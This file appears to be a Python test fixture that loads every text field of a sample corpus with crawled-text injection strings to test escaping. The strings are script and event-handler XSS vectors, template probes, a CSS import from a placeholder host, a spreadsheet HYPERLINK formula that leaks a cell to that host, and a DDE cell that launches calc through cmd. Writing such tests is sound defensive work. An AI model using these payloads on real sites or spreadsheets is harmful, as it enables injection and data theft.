"""What a crawled text may hold, put into every text field of a corpus at once."""

from __future__ import annotations

from dataclasses import replace

from duograph.records import Corpus, Provenance
from sample_corpus import story

PAYLOADS = (
    "<script>window.ran = 1</script>",
    "</script><script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg/onload=window.ran=1>",
    "\"'><img src=https://example.invalid/a onerror=window.ran=1>",
    "<a href='javascript:window.ran=1'>href</a>",
    "<!--<script>",
    "-->]]></style><style>@import 'https://example.invalid/x.css'</style>",
    "{{7*7}}{% raw %}${window.ran=1}`",
    "__proto__",
    "constructor",
    "\u2028\u2029\u0000\u0008\u202e",
    "\\u003cscript>window.ran=1</script>\\",
    "javascript:window.ran=1",
    '=HYPERLINK("https://example.invalid/"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
)


def hostile(payload: str) -> Corpus:
    """The story with ``payload`` in every text field it has."""
    corpus = story()
    rename = {e.id: f"{payload}{n}" if n else payload for n, e in enumerate(corpus.entities)}
    documents = tuple(
        replace(
            d,
            title=payload,
            publisher=payload,
            path=payload,
            url=f"https://example.invalid/{payload}" if n % 2 else payload,
        )
        for n, d in enumerate(corpus.documents)
    )
    entities = tuple(
        replace(
            e,
            id=rename[e.id],
            names=dict.fromkeys(e.names, f"{payload} {n}"),
            aliases=(payload, f"x{payload}"),
            why=(payload,),
            links={"wikidata": payload},
            country=None,
        )
        for n, e in enumerate(corpus.entities)
    )
    events = tuple(
        replace(
            e,
            object=payload,
            date=replace(e.date, text=payload, basis=payload) if e.date else None,
            amounts=tuple(replace(a, text=payload, currency=payload) for a in e.amounts),
            participants=tuple(replace(p, entity=rename[p.entity]) for p in e.participants),
            evidence=tuple(
                replace(v, text=payload + v.text, end=v.end + len(payload), trigger_end=v.trigger_end, rule=payload)
                for v in e.evidence
            ),
        )
        for e in corpus.events
    )
    conflicts = tuple(
        replace(c, why=payload, values=tuple(replace(v, value=payload, text=payload) for v in c.values))
        for c in corpus.conflicts
    )
    doubts = tuple(
        replace(d, first=rename[d.first], second=rename[d.second], evidence_for=(payload,), evidence_against=(payload,))
        for d in corpus.doubts
    )
    return Corpus(
        documents=documents,
        entities=entities,
        events=events,
        conflicts=conflicts,
        doubts=doubts,
        provenance=Provenance(
            version=payload,
            texts=tuple((payload, payload) for _ in documents),
            decisions=payload,
            decided=1,
            entities=payload,
            parts=(payload,),
            filters=(("who", payload),),
        ),
    )
